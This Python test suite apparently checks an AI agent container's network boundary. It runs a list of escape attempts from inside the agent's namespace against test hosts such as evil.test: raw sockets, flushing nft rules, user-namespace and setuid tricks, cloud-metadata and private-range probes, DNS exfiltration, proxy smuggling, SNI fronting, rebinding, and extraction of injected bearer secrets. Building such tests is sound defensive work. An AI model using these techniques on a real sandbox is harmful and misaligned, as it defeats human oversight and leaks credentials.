"""Attempts to get out, by name: each a small function that runs inside the agent's namespace and says whether it got
through. Run as `python3 - NAME...` there (all of them without names); prints one JSON object. The standard library only.

The world behind the sidecar answers on every address, so a refusal here is the boundary's and not an empty network's.
`ok.test` is allowed and spliced, `api.test` and `other.test` hold a credential each, `lan.test` resolves into a private
range that no rule opens, `evil.test` is allowed by nothing. What leaves unseen from here is judged on the world's side.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor

PROXY = ("127.0.0.1", 3128)
PUBLIC4, PUBLIC6 = "198.51.100.9", "2001:db8:5::9"
OK4, OK6, EVIL4 = "198.51.100.7", "2001:db8:5::7", "198.51.100.66"
METADATA = "169.254.169.254"
PRIVATE = "10.77.0.9"
RESOLVER4, RESOLVER6 = "198.51.100.53", "2001:db8:5::53"
SECRETS = ("real-secret-of-api-0123456789", "real-secret-of-other-0123456789")
DECOY = "decoy-of-api-0123456789"
BUNDLE = "/etc/agent-container/ca/bundle.pem"
A, NS, TXT, AAAA, HTTPS, ANY = 1, 2, 16, 28, 65, 255

ATTEMPTS: dict[str, Callable[[], object]] = {}


def attempt(function: Callable[[], object]) -> Callable[[], object]:
    """Registers an attempt: truthy means that it got through; a refusal may be any OSError."""
    ATTEMPTS[function.__name__] = function
    return function


# --- tools ---


@contextlib.contextmanager
def tcp(address: str, port: int, timeout_s: float = 4) -> Iterator[socket.socket]:
    with socket.create_connection((address, port), timeout=timeout_s) as sock:
        yield sock


def talks(address: str, port: int) -> bool:
    """A TCP server of the world greets or echoes."""
    with tcp(address, port) as sock:
        sock.sendall(b"hello\r\n\r\n")
        return bool(sock.recv(100))


def udp_echo(address: str, port: int) -> bool:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.connect((address, port))
        sock.send(b"hello")
        return sock.recv(100) == b"hello"


def query(name: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".") if part)
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def ask_dns(address: str, name: str, kind: int = A, port: int = 53, over_tcp: bool = False) -> tuple[int, int]:
    """Response code and answers."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    message = query(name, kind)
    with socket.socket(family, socket.SOCK_STREAM if over_tcp else socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.connect((address, port))
        sock.sendall(struct.pack("!H", len(message)) + message if over_tcp else message)
        data = sock.recv(4096)[2 if over_tcp else 0 :]
    return (data[3] & 15, struct.unpack("!H", data[6:8])[0]) if len(data) >= 12 else (-1, 0)


def proxy_send(data: bytes) -> bytes:
    with tcp(*PROXY, timeout_s=8) as sock:
        sock.sendall(data)
        received = b""
        with contextlib.suppress(OSError):
            while chunk := sock.recv(65536):
                received += chunk
                if b'"world": true' in received:
                    break
        return received


def proxy_get(url: str, headers: str = "") -> bytes:
    host = url.split("/")[2]
    return proxy_send(f"GET {url} HTTP/1.1\r\nHost: {host}\r\n{headers}Connection: close\r\n\r\n".encode())


def context(verify: bool = True) -> ssl.SSLContext:
    if verify:
        return ssl.create_default_context(cafile=BUNDLE)
    return ssl._create_unverified_context()


@contextlib.contextmanager
def tunnel(
    target: str, sni: str | None = "", port: int = 443, verify: bool = True, headers: str = ""
) -> Iterator[ssl.SSLSocket]:
    """TLS inside a CONNECT; `sni` None sends none."""
    with tcp(*PROXY, timeout_s=8) as sock:
        sock.sendall(f"CONNECT {target}:{port} HTTP/1.1\r\nHost: {target}:{port}\r\n{headers}\r\n".encode())
        received = b""
        while b"\r\n\r\n" not in received:
            chunk = sock.recv(4096)
            if not chunk:
                raise ConnectionError("closed")
            received += chunk
        name = target if sni == "" else sni
        chosen = context(verify and name is not None)
        if name is None:
            chosen.check_hostname = False
        with chosen.wrap_socket(sock, server_hostname=name) as wrapped:
            yield wrapped


def over(wrapped: ssl.SSLSocket | socket.socket, data: bytes) -> bytes:
    wrapped.sendall(data)
    received = b""
    with contextlib.suppress(OSError):
        while chunk := wrapped.recv(65536):
            received += chunk
            if b'"world": true' in received:
                break
    return received


def request(path: str, host: str = "api.test", method: str = "GET", headers: str = "", body: str = "") -> bytes:
    if body:
        headers += f"Content-Length: {len(body)}\r\n"
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{headers}Connection: close\r\n\r\n{body}".encode()


def bearer(value: str = DECOY) -> str:
    return f"Authorization: Bearer {value}\r\n"


def leaked(data: bytes) -> str:
    """Whether a real secret came back, or the world was reached at all where it must not."""
    text = data.decode("latin-1")
    return next((secret for secret in SECRETS if secret in text), "")


def reached_world(data: bytes) -> bool:
    return b'"world": true' in data


# --- controls: what must work, so that the refusals below mean something ---


@attempt
def control_explicit_http() -> object:
    return reached_world(proxy_get("http://ok.test/control"))


@attempt
def control_explicit_https() -> object:
    with tunnel("ok.test") as wrapped:
        return reached_world(over(wrapped, request("/control", "ok.test")))


def transparent(address: str, name: str, path: str = "/control", port: int = 443, headers: str = "") -> bytes:
    with tcp(address, port, timeout_s=8) as sock:
        if port != 443:
            return over(sock, request(path, name, headers=headers))
        with context().wrap_socket(sock, server_hostname=name) as wrapped:
            return over(wrapped, request(path, name, headers=headers))


@attempt
def control_transparent_http() -> object:
    return reached_world(transparent(OK4, "ok.test", port=80))


@attempt
def control_transparent_https() -> object:
    return reached_world(transparent(OK4, "ok.test"))


@attempt
def control_transparent_https6() -> object:
    return reached_world(transparent(OK6, "ok.test"))


@attempt
def control_injection() -> object:
    with tunnel("api.test") as wrapped:
        return SECRETS[0] in over(wrapped, request("/v1/messages", headers=bearer())).decode()


@attempt
def control_transparent_injection() -> object:
    return SECRETS[0] in transparent("198.51.100.8", "api.test", "/v1/messages", headers=bearer()).decode()


@attempt
def control_injection_template() -> object:
    with tunnel("api.test") as wrapped:
        return SECRETS[0] in over(wrapped, request("/v1/items/7", headers=bearer())).decode()


@attempt
def control_bumped_without_decoy() -> object:
    with tunnel("api.test") as wrapped:
        answer = over(wrapped, request("/v1/elsewhere"))
        return reached_world(answer) and not leaked(answer)


@attempt
def control_lookup() -> object:
    return ask_dns("127.0.0.11", "ok.test") == (0, 1) and ask_dns("127.0.0.11", "ok.test", AAAA, over_tcp=True) == (
        0,
        1,
    )


@attempt
def control_localhost() -> object:
    """The agent's own servers stay its own business, in both families, over TCP and UDP."""
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        with socket.socket(family, socket.SOCK_STREAM) as server, socket.socket(family, socket.SOCK_DGRAM) as datagrams:
            server.bind((address, 0))
            server.listen()
            datagrams.bind((address, 0))
            datagrams.settimeout(3)
            with socket.create_connection(server.getsockname()[:2], timeout=3) as client:
                peer, _ = server.accept()
                peer.sendall(b"mine")
                if client.recv(10) != b"mine":
                    return False
                peer.close()
            with socket.socket(family, socket.SOCK_DGRAM) as client:
                client.sendto(b"mine", datagrams.getsockname())
                if datagrams.recv(10) != b"mine":
                    return False
    return True


@attempt
def control_private_range() -> object:
    """A name whose rule opens its private range."""
    return reached_world(proxy_get("http://intranet.test:8080/control"))


@attempt
def control_events_unbuffered() -> object:
    """Server-sent events through TLS that is terminated arrive one by one."""
    with tunnel("api.test") as wrapped:
        wrapped.sendall(request("/sse"))
        received = b""
        while b"data: 0" not in received:
            received += wrapped.recv(4096)
        return b"data: 2" not in received


@attempt
def control_websocket() -> object:
    upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    with tunnel("api.test") as wrapped:
        wrapped.sendall(f"GET /v1/items/ws HTTP/1.1\r\nHost: api.test\r\n{bearer()}{upgrade}\r\n".encode())
        received = wrapped.recv(4096)
        while b"hello" not in received:
            chunk = wrapped.recv(4096)
            if not chunk:
                return False
            received += chunk
        return received.startswith(b"HTTP/1.1 101")


@attempt
def control_upload() -> object:
    """A body well past any buffer."""
    size = 8 * 1024 * 1024
    with tunnel("api.test") as wrapped:
        wrapped.sendall(
            f"POST /v1/messages HTTP/1.1\r\nHost: api.test\r\nContent-Length: {size}\r\n{bearer()}Connection: close\r\n\r\n".encode()
        )
        for _ in range(size // 65536):
            wrapped.sendall(b"x" * 65536)
        return f'"body": {size}'.encode() in over(wrapped, b"")


# --- straight out ---


@attempt
def raw_tcp4() -> object:
    return talks(PUBLIC4, 9000)


@attempt
def raw_tcp6() -> object:
    return talks(PUBLIC6, 9000)


@attempt
def raw_tcp_ssh() -> object:
    return talks(OK4, 22)


@attempt
def raw_udp4() -> object:
    return udp_echo(PUBLIC4, 9000)


@attempt
def raw_udp6() -> object:
    return udp_echo(PUBLIC6, 9000)


@attempt
def quic() -> object:
    return udp_echo(OK4, 443) or udp_echo(OK6, 443)


@attempt
def other_transports() -> object:
    for kind, protocol in (
        (socket.SOCK_STREAM, 262),
        (socket.SOCK_DGRAM, 136),
        (socket.SOCK_STREAM, 132),
        (socket.SOCK_SEQPACKET, 132),
    ):
        for family, address in ((socket.AF_INET, PUBLIC4), (socket.AF_INET6, PUBLIC6)):  # MPTCP, UDPLITE, SCTP
            with contextlib.suppress(OSError), socket.socket(family, kind, protocol) as sock:
                sock.settimeout(1)
                sock.connect((address, 9000))
                sock.send(b"hello")
                if sock.recv(100):
                    return f"protocol {protocol} to {address}"
    return False


@attempt
def ping() -> object:
    for family, protocol, kind, address in (
        (socket.AF_INET, socket.IPPROTO_ICMP, 8, PUBLIC4),
        (socket.AF_INET6, socket.IPPROTO_ICMPV6, 128, PUBLIC6),
    ):
        for style in (socket.SOCK_DGRAM, socket.SOCK_RAW):
            with contextlib.suppress(OSError), socket.socket(family, style, protocol) as sock:
                sock.settimeout(1)
                body = struct.pack("!BBHHH", kind, 0, 0, 1, 1) + b"payload"
                total = sum(struct.unpack("!7H", body[:14])) + (body[14] << 8)
                total = (total >> 16) + (total & 0xFFFF)
                sock.sendto(body[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + body[4:], (address, 0))
                return f"echo request to {address} was taken by the kernel"
    return False


@attempt
def raw_sockets() -> object:
    for family, style, protocol in (
        (socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
        (socket.AF_PACKET, socket.SOCK_DGRAM, 0x0008),
        (socket.AF_INET, socket.SOCK_RAW, 255),
        (socket.AF_INET6, socket.SOCK_RAW, 255),
    ):
        with contextlib.suppress(OSError), socket.socket(family, style, protocol):
            return f"family {family}, style {style}"
    return False


@attempt
def socket_options() -> object:
    """Marks, foreign source addresses, another device: what a rule might be keyed on."""
    for level, option, value in ((socket.SOL_SOCKET, 36, 1), (socket.IPPROTO_IP, 19, 1), (socket.IPPROTO_IPV6, 75, 1)):
        family = socket.AF_INET6 if level == socket.IPPROTO_IPV6 else socket.AF_INET
        with contextlib.suppress(OSError), socket.socket(family) as sock:
            sock.setsockopt(level, option, value)  # SO_MARK, IP_TRANSPARENT, IPV6_TRANSPARENT
            return f"option {option} was taken"
    with contextlib.suppress(OSError), socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")  # SO_BINDTODEVICE needs nothing since Linux 5.7
        sock.settimeout(2)
        sock.connect((PUBLIC4, 9000))
        return "bound to the device"
    return False


@attempt
def change_the_rules() -> object:
    for arguments in (("list", "ruleset"), ("flush", "ruleset"), ("delete", "table", "inet", "egress")):
        done = subprocess.run(["/usr/sbin/nft", *arguments], capture_output=True, check=False)
        if done.returncode == 0 and (arguments[0] != "list" or done.stdout):
            return f"nft {' '.join(arguments)}"
    return False


@attempt
def own_namespace() -> object:
    """A user namespace gives capabilities, and none over this network."""
    libc = ctypes.CDLL(None, use_errno=True)
    pid = os.fork()
    if pid == 0:
        code = 1
        with contextlib.suppress(BaseException):
            if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
                done = subprocess.run(["/usr/sbin/nft", "flush", "ruleset"], capture_output=True, check=False)
                code = 0 if done.returncode == 0 else 1
        os._exit(code)
    return os.waitpid(pid, 0)[1] == 0


@attempt
def privileges() -> object:
    """Nothing to gain: no capability, no way to one, another uid out of reach."""
    with open("/proc/self/status") as file:
        status = dict(line.strip().split(":\t", 1) for line in file if ":\t" in line)
    held = [key for key in ("CapEff", "CapPrm", "CapBnd", "CapAmb") if int(status[key], 16)]
    if held or status.get("NoNewPrivs") != "1":
        return f"{held}, NoNewPrivs {status.get('NoNewPrivs')}"
    for uid in (0, 64101, 64103):
        with contextlib.suppress(OSError):
            os.setuid(uid)
            return f"became {uid}"
    return False


@attempt
def abstract_sockets() -> object:
    """They are shared across the namespace and no rule sees them."""
    with open("/proc/net/unix") as file:
        return [line.split()[-1] for line in file if line.split()[-1].startswith("@")]


@attempt
def private_and_metadata() -> object:
    for address, port in ((METADATA, 9000), (PRIVATE, 9000), ("fd00:ec2::254", 9000), (PRIVATE, 5432)):
        with contextlib.suppress(OSError):
            if talks(address, port):
                return f"{address}:{port}"
    for address in (METADATA, PRIVATE, "fd00:ec2::254"):
        with contextlib.suppress(OSError):
            if reached_world(transparent(address, "ok.test", port=80)):
                return f"http to {address}"
    return False


@attempt
def gateways() -> object:
    """The engine's own end of the bridge, and the default gateway."""
    with open("/proc/net/route") as file:
        rows = [line.split() for line in file][1:]
    via = [socket.inet_ntoa(struct.pack("<I", int(row[2], 16))) for row in rows if row[2] != "00000000"]
    for address in via:
        for port in (9000, 22, 2375):
            with contextlib.suppress(OSError), tcp(address, port, timeout_s=2):
                return f"{address}:{port}"
    return False


# --- names ---


@attempt
def lookup_refused_names() -> object:
    for address in ("127.0.0.11", RESOLVER4, RESOLVER6, "127.0.0.1"):
        for over_tcp in (False, True):
            with contextlib.suppress(OSError):
                code, answers = ask_dns(address, "leak-1.evil.test", over_tcp=over_tcp)
                if answers or code == 0:
                    return f"{address} answered with code {code}"
    return False


@attempt
def lookup_other_types() -> object:
    for kind in (TXT, NS, HTTPS, ANY):
        with contextlib.suppress(OSError):
            if ask_dns("127.0.0.11", "ok.test", kind)[1]:
                return f"type {kind}"
    return False


@attempt
def lookup_below_allowed_name() -> object:
    with contextlib.suppress(OSError):
        return ask_dns("127.0.0.11", "leak-2.ok.test")[1] > 0
    return False


@attempt
def lookup_past_the_filter() -> object:
    """unbound's own port, and the port that the engine's resolver listens on."""
    for over_tcp in (False, True):
        with contextlib.suppress(OSError):
            return f"unbound: {ask_dns('127.0.0.1', 'leak-3.evil.test', port=3054, over_tcp=over_tcp)}"
    for table, over_tcp in (("/proc/net/udp", False), ("/proc/net/tcp", True)):
        with open(table) as file:
            ports = [int(line.split()[1].split(":")[1], 16) for line in file if line.split()[1].startswith("0B00007F")]
        for port in ports:
            with contextlib.suppress(OSError):
                return f"engine: {ask_dns('127.0.0.11', 'leak-4.evil.test', port=port, over_tcp=over_tcp)}"
    return False


@attempt
def odd_queries() -> object:
    """Two questions in one, bytes after the message: nothing of it may travel."""
    two = struct.pack("!6H", 9, 0x0100, 2, 0, 0, 0) + query("ok.test", A)[12:] + query("leak-5.evil.test", A)[12:]
    for message in (two, query("ok.test", A) + b"leak-6-trailing", query("OK.LeAk7.tEsT", A)):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(2)
            sock.connect(("127.0.0.11", 53))
            sock.send(message)
            sock.recv(4096)
    return False  # judged by what the world was asked


# --- through the proxy ---


@attempt
def proxy_refused_host() -> object:
    for url in ("http://evil.test/", f"http://{EVIL4}/", "http://leak-8.evil.test/", f"http://[{PUBLIC6}]/"):
        if reached_world(proxy_get(url)):
            return url
    for host in ("evil.test", EVIL4):
        with contextlib.suppress(OSError), tunnel(host, sni="evil.test", verify=False) as wrapped:
            if reached_world(over(wrapped, request("/", host))):
                return host
    return False


@attempt
def proxy_pipelined() -> object:
    first = b"GET http://ok.test/first HTTP/1.1\r\nHost: ok.test\r\n\r\n"
    second = b"GET http://evil.test/second HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
    with tcp(*PROXY, timeout_s=5) as sock:
        sock.sendall(first + second)
        received = b""
        with contextlib.suppress(OSError):
            while chunk := sock.recv(65536):
                received += chunk
    return b'"/second"' in received


@attempt
def proxy_to_private() -> object:
    targets = (
        f"http://{PRIVATE}:8080/",
        f"http://{METADATA}/latest/",
        "http://lan.test:8080/",
        "http://metadata.test/",
    )
    for url in targets:
        if reached_world(proxy_get(url)):
            return url
    return False


@attempt
def proxy_rebinding() -> object:
    """A name that is allowed and changes its address with every answer."""
    for _ in range(6):
        answer = proxy_get("http://flip.test:8080/")
        if b"10.77.0." in answer or b"169.254." in answer:
            return answer[-200:].decode("latin-1")
    return False


LOOPBACKS = (
    "127.0.0.1",
    "localhost",
    "[::1]",
    "0.0.0.0",
    "127.1",
    "2130706433",
    "0x7f000001",
    "[::ffff:127.0.0.1]",
    "[::]",
)


@attempt
def proxy_to_itself() -> object:
    for host in LOOPBACKS:
        for port in (3128, 3129, 3130, 3131, 3053):
            status = proxy_get(f"http://{host}:{port}/").split(b" ")[1:2]
            if status in ([b"200"], [b"204"], [b"404"]):
                return f"{host}:{port} answered {status}"
    return False


@attempt
def proxy_canary() -> object:
    for path in ("", "canary", "0" * 32):
        if b" 403 " not in proxy_get(f"http://canary.agent-container.invalid:3131/{path}").split(b"\r\n")[0]:
            return path or "/"
    return False


@attempt
def cache_manager() -> object:
    probes = (
        b"GET http://localhost:3128/squid-internal-mgr/info HTTP/1.1\r\nHost: localhost:3128\r\nConnection: close\r\n\r\n",
        b"GET http://egress/squid-internal-mgr/config HTTP/1.1\r\nHost: egress\r\nConnection: close\r\n\r\n",
        b"GET /squid-internal-mgr/info HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nConnection: close\r\n\r\n",
        b"GET cache_object://localhost/config HTTP/1.0\r\n\r\n",
    )
    for probe in probes:
        status = proxy_send(probe).split(b"\r\n")[0]
        if b" 200 " in status:
            return probe.split(b"\r\n")[0].decode()
    return False


@attempt
def private_ports() -> object:
    """squid's intercept ports, the canary, and its helpers, straight."""
    with open("/proc/net/tcp") as file:
        rows = [line.split() for line in file][1:]
    helpers = [
        int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A" and row[7] in ("64101", "64104", "64105")
    ]
    for port in {3129, 3130, 3131, 3054, *helpers} - {3128, 3053}:
        for address in ("127.0.0.1", "::1"):
            with contextlib.suppress(OSError), tcp(address, port, timeout_s=1):
                return f"{address}:{port}"
    return False


@attempt
def fronting_sni() -> object:
    """CONNECT to an allowed name, another one in the hello, or none."""
    for sni in ("evil.test", None, "api.test"):
        with contextlib.suppress(OSError), tunnel("ok.test", sni=sni, verify=False) as wrapped:
            if reached_world(over(wrapped, request("/fronted", "evil.test"))):
                return f"SNI {sni}"
    return False


@attempt
def transparent_refused() -> object:
    for name in ("evil.test", "api.test"):
        with contextlib.suppress(OSError):
            if reached_world(transparent(EVIL4, name)):
                return name
    return False


@attempt
def transparent_wrong_address() -> object:
    """The SNI or Host of an allowed name, sent to another address: one got a connection, one the token."""
    for name, headers in (("ok.test", ""), ("api.test", bearer())):
        with contextlib.suppress(OSError), tcp(EVIL4, 443, timeout_s=8) as sock:
            with context(verify=False).wrap_socket(sock, server_hostname=name) as wrapped:
                answer = over(wrapped, request("/v1/messages", name, headers=headers))
                if reached_world(answer) or leaked(answer):
                    return f"TLS for {name}"
    with contextlib.suppress(OSError):
        return reached_world(transparent(EVIL4, "ok.test", port=80))
    return False


# --- the credential ---


@attempt
def token_inner_host() -> object:
    """CONNECT one host, name another inside; both hold credentials, so both are terminated."""
    for outer, inner in (("other.test", "api.test"), ("api.test", "other.test"), ("api.test", "evil.test")):
        with contextlib.suppress(OSError), tunnel(outer) as wrapped:
            if reached_world(over(wrapped, request("/v1/messages", inner, headers=bearer()))):
                return f"{inner} inside {outer}"
    return False


@attempt
def token_inner_tricks() -> object:
    double = f"GET /v1/messages HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\n{bearer()}Connection: close\r\n\r\n"
    absolute = f"GET https://evil.test/v1/messages HTTP/1.1\r\nHost: api.test\r\n{bearer()}Connection: close\r\n\r\n"
    plain = f"GET http://evil.test/v1/messages HTTP/1.1\r\nHost: evil.test\r\n{bearer()}Connection: close\r\n\r\n"
    nested = "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"
    smuggled = (
        f"POST /v1/messages HTTP/1.1\r\nHost: api.test\r\n{bearer()}Content-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n"
        "0\r\n\r\nGET /v1/messages HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    )
    for number, text in enumerate((double, absolute, plain, nested, smuggled)):
        with contextlib.suppress(OSError), tunnel("api.test") as wrapped:
            answer = over(wrapped, text.encode())
            if b'"host": "evil.test"' in answer:
                return f"trick {number}"
    return False


PATHS = (
    "/v1/messages/../../who", "/v1/messages/%2e%2e/who", "/v1/messages/%2E./who", "//v1/messages", "/v1/messages%2f..%2fwho",
    "/v1/items/../who", "/v1/items/a/b", "/v1/messages/", "/v1\\messages", "/v1/messages;x=1", "/./v1/messages",
)  # fmt: skip


@attempt
def token_other_paths() -> object:
    for path in PATHS:
        with contextlib.suppress(OSError), tunnel("api.test") as wrapped:
            if leaked(over(wrapped, request(path, headers=bearer()))):
                return path
    return False


@attempt
def token_other_methods() -> object:
    for method in ("TRACE", "DELETE", "OPTIONS", "M-SEARCH"):
        with contextlib.suppress(OSError), tunnel("api.test") as wrapped:
            if leaked(over(wrapped, request("/v1/messages", method=method, headers=bearer()))):
                return method
    return False


@attempt
def token_plain_http() -> object:
    """Nothing of it, not even the decoy, over a line that is not TLS."""
    for url in ("http://api.test/v1/messages", "http://api.test:443/v1/messages", "https://api.test/v1/messages"):
        answer = proxy_get(url, bearer())
        if reached_world(answer) or leaked(answer):
            return url
    with contextlib.suppress(OSError):
        return reached_world(transparent("198.51.100.8", "api.test", "/v1/messages", port=80, headers=bearer()))
    return False


@attempt
def token_elsewhere_in_request() -> object:
    for headers, path in (
        (f"X-Api-Key: {DECOY}\r\n", "/v1/messages"),
        (f"Cookie: k={DECOY}\r\n", "/v1/messages"),
        ("", f"/v1/messages?key={DECOY}"),
        (bearer(f"{DECOY} x"), "/v1/messages"),
    ):
        with contextlib.suppress(OSError), tunnel("api.test") as wrapped:
            if reached_world(over(wrapped, request(path, headers=headers))):
                return headers or path
    return False


@attempt
def token_of_another_host() -> object:
    with contextlib.suppress(OSError), tunnel("other.test") as wrapped:
        answer = over(wrapped, request("/v1/messages", "other.test", headers=bearer()))
        return reached_world(answer)
    return False


@attempt
def impersonate_a_daemon() -> object:
    """Take a daemon's port in its place, and race squid's helpers."""
    for port in (3128, 3129, 3130, 3131, 3053, 3054, 53, 80, 443):
        for address in ("127.0.0.1", "0.0.0.0", "::", "127.0.0.2"):
            if port in (3128, 3053, 3054, 3129, 3130, 3131) and address != "127.0.0.1":
                continue
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            with contextlib.suppress(OSError), socket.socket(family) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                sock.setsockopt(socket.SOL_SOCKET, 15, 1)  # SO_REUSEPORT
                sock.bind((address, port))
                return f"{address}:{port}"
    return False


def run(name: str) -> dict[str, object]:
    try:
        found = ATTEMPTS[name]()
    except (OSError, ValueError, IndexError) as error:
        return {"reached": False, "detail": f"{type(error).__name__}: {error}"}
    return {"reached": bool(found), "detail": "" if found in (True, False) else str(found)[:300]}


def main(names: list[str]) -> None:
    chosen = names or list(ATTEMPTS)
    alone = [name for name in chosen if name in ("own_namespace",)]  # it forks, so no threads beside it
    results = {name: run(name) for name in alone}
    with ThreadPoolExecutor(6) as pool:
        rest = [name for name in chosen if name not in alone]
        results.update(zip(rest, pool.map(run, rest), strict=True))
    print(json.dumps(results))


if __name__ == "__main__":
    main(sys.argv[1:])
